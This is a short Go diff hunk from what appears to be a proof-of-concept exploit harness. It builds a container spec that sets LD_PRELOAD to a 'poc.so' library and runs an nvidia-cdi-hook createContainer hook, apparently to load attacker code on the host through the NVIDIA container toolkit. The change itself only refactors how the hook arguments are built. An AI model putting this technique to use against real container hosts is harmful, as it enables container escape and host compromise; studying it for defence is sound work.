@@ -74,7 +74,7 @@ func (v *victim) config(runc, hook string) {
 	process["args"] = []string{"/program", "--version"}
 	process["env"] = []string{"LD_PRELOAD=/proc/self/cwd/poc.so", "GOTRACEBACK=crash"}
 	spec["hooks"] = map[string]any{"createContainer": []any{map[string]any{
-		"path": hook, "args": append([]string{"nvidia-cdi-hook"}, hooks()["prepare-container"]...),
+		"path": hook, "args": append([]string{"nvidia-cdi-hook"}, prepare(v)...),
 	}}}
 	data, err = json.Marshal(spec)
 	v.must(err)
